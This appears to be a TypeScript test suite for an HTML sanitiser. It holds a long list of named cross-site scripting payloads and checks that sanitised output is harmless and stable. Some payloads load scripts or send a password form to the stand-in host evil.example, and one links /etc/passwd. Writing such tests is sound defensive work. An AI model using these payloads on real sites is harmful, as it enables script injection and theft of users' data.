import fc from 'fast-check';
import { expect, test } from 'vitest';
import { base, safe } from './content.ts';
import { faults } from './judge.ts';

const attacks: [technique: string, content: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script of another origin', '<script src="//evil.example/x.js"></script>'],
  ['a script in capitals', '<SCRIPT>alert(1)</SCRIPT>'],
  ['a script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['a script with white space in its end', '<script>alert(1)</script \n>'],
  ['a script that is never closed', '<p>x<script>alert(1)'],
  ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script whose tag is never closed', '<script src=//evil.example/x.js'],
  ['a script with a slash for a space', '<script/src=//evil.example/x.js></script>'],
  ['a script after an extra bracket', '<<script>alert(1)//<</script>'],
  ['a script with a null byte in its name', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['a script that ends in an attribute', '<script a="</script><img src=x onerror=alert(1)>">x</script>'],
  ['a script in XHTML', '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'],
  ['a script of the long s', '<ſcript>alert(1)</ſcript>'],
  ['a script that was escaped', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a script that was escaped twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a handler in capitals', '<IMG SRC=x ONERROR=alert(1)>'],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['a handler after a form feed', '<img\fsrc=x\fonerror=alert(1)>'],
  ['a handler after a vertical tab', '<img src=x\vonerror=alert(1)>'],
  ['a handler after a quote without a space', '<img src="x"onerror=alert(1)>'],
  ['a handler with a null byte', '<img src=x on\0error=alert(1)>'],
  ['a handler of the page', '<body onload=alert(1)>x'],
  ['a handler of focus', '<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>'],
  ['a handler of a video', '<video src=x onerror=alert(1)><source onerror=alert(1)></video>'],
  ['a handler of details', '<details open ontoggle=alert(1)>x</details>'],
  ['a handler of an unknown element', '<xss onclick="alert(1)">click</xss>'],
  ['a handler of a pointer', '<p onpointerover="alert(1)">x</p>'],
  ['a handler of a transition', '<p style="transition:1s" ontransitionend=alert(1)>x</p>'],
  ['a handler in a closing tag', '<p>x</p onclick=alert(1)>'],
  ['a handler that leaves an attribute by a quote', '<img alt=\'" onerror="alert(1)\' src=x>'],
  ['a handler that leaves an attribute by an entity', '<img alt="&quot; onerror=&quot;alert(1)" src=x>'],
  ['a handler in backticks', '<img alt="`" src="x` onerror=alert(1) `">'],
  ['a handler in a name with quotes', '<p a"onclick=alert(1)="x">x</p>'],
  ['a link to a script', '<a href="javascript:alert(1)">x</a>'],
  ['a link to a script in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a link to a script with entities', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['a link to a script with hexadecimal entities', '<a href="&#x6A;&#x61vascript:alert(1)">x</a>'],
  ['a link to a script with long entities', '<a href="&#0000106avascript:alert(1)">x</a>'],
  ['a link to a script with a named colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a link to a script with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a link to a script with an escaped tab', '<a href="jav&#x09;ascript&Tab;:alert(1)">x</a>'],
  ['a link to a script with a line break', '<a href="java\r\nscript:alert(1)">x</a>'],
  ['a link to a script after spaces', '<a href=" \n javascript:alert(1)">x</a>'],
  ['a link to a script after control characters', '<a href="\u0001\u001fjavascript:alert(1)">x</a>'],
  ['a link to a script after an escaped control character', '<a href="&#14;javascript:alert(1)">x</a>'],
  ['a link to a script after a null byte', '<a href="\0javascript:alert(1)">x</a>'],
  ['a link to a script after a space of no width', '<a href="\u200bjavascript:alert(1)">x</a>'],
  ['a link to a script after a byte order mark', '<a href="\ufeffjavascript:alert(1)">x</a>'],
  ['a link to a script with a comment', '<a href="java<!-- -->script:alert(1)">x</a>'],
  ['a link to a script without quotes', '<a href=javascript:alert(1)>x</a>'],
  ['a link to a script in backticks', '<a href=`javascript:alert(1)`>x</a>'],
  ['a link to a script that is never closed', '<a href="javascript:alert(1)'],
  ['a link to a script of full width', '<a href="ｊavascript:alert(1)">x</a>'],
  ['a link twice', '<a href="https://a.example/" href="javascript:alert(1)">x</a>'],
  ['a link to a script of Visual Basic', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link to a live script', '<a href="livescript:alert(1)">x</a>'],
  ['a link to a document in the link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a link to an encoded document', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a link to a source', '<a href="view-source:javascript:alert(1)">x</a>'],
  ['a link to a blob', '<a href="blob:https://reader.example/0">x</a>'],
  ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
  ['a link to a JAR', '<a href="jar:javascript:alert(1)!/x">x</a>'],
  ['a link within a script of another', '<a href="feed:javascript:alert(1)">x</a>'],
  ['a link of a drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a link of a formula', '<math><mtext href="javascript:alert(1)" xlink:href="javascript:alert(1)">x</mtext></math>'],
  ['a link that reports clicks', '<a href="https://a.example/" ping="https://evil.example/">x</a>'],
  ['a link that opens a window', '<a href="https://a.example/" target="_blank" rel="opener">x</a>'],
  ['a link that saves a file', '<a href="https://a.example/x" download="run.exe">x</a>'],
  ['an image by a script', '<img src="javascript:alert(1)">'],
  ['an image of another name', '<image src=x onerror=alert(1)>'],
  ['an old image', '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" src=x>'],
  ['an image that is a drawing', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['an image that is an encoded drawing', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
  ['an image that is a document', '<img src="data:text/html,x">'],
  ['an image that only begins like a picture', '<img src="data:image/png,<script>alert(1)</script>">'],
  ['a set of images with a script', '<img srcset="javascript:alert(1) 1x, ok.png 2x">'],
  ['a set of images with white space', '<img srcset="java\nscript:alert(1),\tdata:text/html,x 2x">'],
  ['a set of images that leaves its attribute', '<img srcset="x&quot; onerror=&quot;alert(1) 1x">'],
  ['a set of images with a strange size', '<img srcset="x.png 1x onerror=alert(1), y.png calc(1)">'],
  ['an image map', '<img usemap="#m" src=x><map name=m><area href="javascript:alert(1)"></map>'],
  ['an image with a long description', '<img src=x longdesc="javascript:alert(1)">'],
  ['a poster', '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>'],
  ['a quotation', '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="data:text/html,x">y</q>'],
  ['a background', '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>'],
  ['a style', '<style>@import "//evil.example/x.css";</style>'],
  ['a style with an end in it', '<style><!--</style><script>alert(1)//--></script>'],
  ['a style that is a title', '<style><a title="</style><img src=x onerror=alert(1)>">'],
  ['an expression', '<div style="width:expression(alert(1))">x</div>'],
  ['a binding', '<div style="-moz-binding:url(//evil.example/x#y)">x</div>'],
  ['a style with a link', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['a style that covers the page', '<div style="position:fixed;inset:0">x</div>'],
  ['a style sheet', '<link rel=stylesheet href="//evil.example/x.css">'],
  ['an import', '<link rel="import" href="//evil.example/x.html">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['a policy', '<meta http-equiv="Set-Cookie" content="a=b">'],
  ['another base', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ['a frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a frame with its document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame with its escaped document', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['a frame in a frame', '<iframe><iframe></iframe><img src=x onerror=alert(1)></iframe>'],
  ['frames', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  ['an object', '<object data="javascript:alert(1)" type="text/html"><param name=code value=x></object>'],
  ['an embedded object', '<embed src="javascript:alert(1)" code="x">'],
  ['an applet', '<applet code="x.class" archive="//evil.example/x.jar"></applet>'],
  ['a form', '<form action="javascript:alert(1)"><input type=submit value=x></form>'],
  ['a form of another origin', '<form action="//evil.example/"><input name=password></form>'],
  ['a button', '<button formaction="javascript:alert(1)" form=f>x</button>'],
  ['an image that sends a form', '<input type=image src=x formaction="javascript:alert(1)" onerror=alert(1)>'],
  ['a key', '<keygen autofocus onfocus=alert(1)><isindex action="javascript:alert(1)" type=image>'],
  ['a text that runs', '<marquee onstart=alert(1)>x</marquee>'],
  ['a layer', '<layer src="//evil.example/x"></layer><bgsound src="javascript:alert(1)">'],
  ['a drawing', '<svg onload=alert(1)>'],
  ['a drawing with a script', '<svg><script>alert(1)</script></svg>'],
  ['a drawing with a closed script', '<svg><script href="data:,alert(1)"/></svg>'],
  [
    'a drawing that moves',
    '<svg><animate attributeName=href values="javascript:alert(1)"/><a><text>x</text></a></svg>',
  ],
  ['a drawing with a set', '<svg><set attributeName=onmouseover to=alert(1)></svg>'],
  ['a drawing that is used', '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>'],
  ['a document in a drawing', '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>'],
  ['a style in a drawing', '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">'],
  ['a section of text in a drawing', '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>'],
  [
    'a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['a formula with an action', '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x'],
  ['a formula with a note', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'],
  ['forms in formulas', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>'],
  ['a page without scripts', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a page without frames', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">'],
  ['a page that embeds nothing', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a shadow', '<div><template shadowrootmode=open><script>alert(1)</script></template></div>'],
  ['a text area', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ['a title', '<title><p title="</title><img src=x onerror=alert(1)>">'],
  ['an example', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['an example that was escaped', '<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>'],
  ['a listing', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>'],
  ['an option that was escaped', '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>'],
  ['a style in a choice', '<select><style></select><img src=x onerror=alert(1)></style>'],
  ['plain text', '<plaintext><img src=x onerror=alert(1)>'],
  ['a comment', '<!-- <img src=x onerror=alert(1)> -->'],
  ['a comment that ends at once', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment that ends soon', '<!---><img src=x onerror=alert(1)>-->'],
  ['a comment that ends with a bang', '<!-- x --!><img src=x onerror=alert(1)> -->'],
  ['a comment that never ends', '<!-- <img src=x onerror=alert(1)>'],
  ['a comment of another kind', '<! --><img src=x onerror=alert(1)>'],
  ['a condition', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a condition that others see', '<![if !IE]><script>alert(1)</script><![endif]>'],
  ['a section of text', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a section of text that ends twice', '<![CDATA[ x > <img src=x onerror=alert(1)> ]]>'],
  ['an instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'],
  ['an instruction of a server', '<?php echo "<script>alert(1)</script>" ?><% x %>'],
  ['an instruction that ends early', '<?x a="?><img src=x onerror=alert(1)>">'],
  ['a document type', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;'],
  ['an end that ends a comment', '</<script>alert(1)</script>'],
  ['an end that is none', '</ x><img src=x onerror=alert(1)></ x>'],
  ['an attribute that is never closed', '<p title="x><img src=x onerror=alert(1)>'],
  [
    'an attribute that is never closed, then one that is',
    '<a title="x>y</a><a title="><img src=x onerror=alert(1)>">z',
  ],
  ['an equals sign', '<p =" title="><img src=x onerror=alert(1)>">x</p>'],
  ['letters of old charsets', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['brackets of other scripts', '＜script＞alert(1)＜/script＞ ‹script› \u02c2script\u02c3'],
  ['entities without an end', '&ltscript&gtalert(1)&lt/script&gt'],
  ['entities of no character', '&#0;&#xD800;&#x110000;<p title="&#0;">x</p>'],
  ['names that pages use', '<a id=location name=cookie class=modal>x</a><img name=getElementById src=x>'],
  [
    'attributes that frameworks run',
    '<p x-on:click="alert(1)" @click="x" v-html="x" ng-init="x" data-bind="x" hx-get="x">y</p>',
  ],
  ['an element of another kind', '<p is="x-script">y</p><x-script slot=z>y</x-script>'],
  [
    'attributes that name prototypes',
    '<p __proto__="x" constructor="y" hasOwnProperty="z">x</p><constructor>y</constructor>',
  ],
  ['a place to drop', '<p contenteditable draggable=true dropzone="x" ondrop=alert(1)>x</p>'],
  ['a thing that pops over', '<p popover id=x>x</p><button popovertarget=x onbeforetoggle=alert(1)>y</button>'],
  ['a dialogue', '<dialog open><form method=dialog>x</form></dialog>'],
  ['a portal', '<portal src="javascript:alert(1)"></portal><fencedframe src="x"></fencedframe>'],
  ['tables in formulas', '<table><tbody><math><tr><td><style><!--</style><img title="--><script>alert(1)</script>">'],
  ['a paragraph that is ended only', '</p><svg></p><style><img src="</style><img src=x onerror=alert(1)//">'],
];

test.each(attacks)('%s is harmless', (_, content) => {
  const html = safe(content) ?? '';
  expect(faults(html)).toEqual([]);
  expect(safe(html) ?? '').toBe(html);
});

test.each(attacks)('%s is harmless in an attribute, a cell and an end', (_, content) => {
  const quoted = content.replaceAll('"', '&quot;');
  for (const html of [`<p title="${quoted}">x`, `<table><tr><td>${content}`, `<a href="${quoted}">x`, `</${content}`]) {
    expect(faults(safe(html) ?? '')).toEqual([]);
  }
});

test.each(attacks)('%s is harmless in plain text', (_, content) => {
  expect(faults(safe(content, { contentType: 'text/plain' }) ?? '')).toEqual([]);
});

test('the judge knows what is harmful', () => {
  const harmful = attacks.filter(([, content]) => faults(content).length > 0);
  expect(harmful.length).toBeGreaterThan(130);
});

const names = ['p', 'b', 'a', 'li', 'ul', 'td', 'tr', 'table', 'font', 'svg', 'math', 'style', 'script', 'noscript'];
const parts = fc.oneof(
  fc
    .constantFrom(...names, ...['title', 'template', 'select', 'option', 'textarea', 'xmp', 'iframe', 'video', 'form'])
    .chain((name) => fc.constantFrom(`<${name}>`, `</${name}>`, `<${name}/>`, `<${name} `, `<${name} title="`)),
  fc.constantFrom(
    '<img src=x ',
    '<a href="',
    '<img srcset="',
    '"',
    "'",
    '`',
    '>',
    '<',
    '/',
    '=',
    ' ',
    '\n',
    '\0',
    '-->',
  ),
  fc.constantFrom(
    '<!--',
    '<![CDATA[',
    ']]>',
    '<?x ',
    '<!x ',
    '&',
    '&lt;',
    '&quot;',
    '&#0;',
    '&#x3c',
    'onerror=alert(1)',
  ),
  fc.constantFrom(
    'javascript:',
    'data:text/html,',
    'https://x.example/',
    '//',
    '\\',
    '..',
    'a',
    'width=1',
    'height=1',
    ',',
  ),
  fc.constantFrom(
    '1x',
    'mailto:',
    'magnet:?',
    'é',
    '%',
    '#',
    '?',
    '@',
    ':',
    'style="display:none"',
    ...['\u00a0', '\ud83d'],
  ),
);

const tag = fc.tuple(fc.constantFrom('<', '</'), fc.constantFrom(...names)).map(([open, name]) => `${open}${name}>`);
const tags = fc.oneof(
  tag,
  tag,
  tag,
  fc.constantFrom('x', '<br>', '<img src=x>', '<img width=1 height=1 src=x>', '&amp;'),
);

/** Of all parts, or of whole tags only, which are nested deeper then. */
const heaps = fc
  .oneof(fc.array(parts, { maxLength: 40 }), fc.array(tags, { maxLength: 12 }))
  .map((heap) => heap.join(''));

test('whatever it is made from, the result is harmless, and sanitising it again changes nothing', () => {
  fc.assert(
    fc.property(heaps, fc.constantFrom(base, ''), (heap, contentBase) => {
      const html = safe(heap, { contentBase }) ?? '';
      expect(faults(html)).toEqual([]);
      expect(safe(html, { contentBase }) ?? '').toBe(html);
    }),
    { numRuns: 3_000 },
  );
});

/** What is left open, or closed without having been opened. */
const unbalanced = (html: string): string[] => {
  const open: string[] = [];
  for (const [, slash, name = '', end] of html.matchAll(/<(\/?)([a-z\d]+)[^<>]*?(\/?)>/g)) {
    if (slash && open.at(-1) === name) open.pop();
    else if (slash) return [name];
    else if (!end) open.push(name);
  }
  return open;
};

test('whatever it is made from, every element of the result is closed in its turn', () => {
  fc.assert(
    fc.property(heaps, (heap) => {
      expect(unbalanced(safe(heap) ?? '')).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});
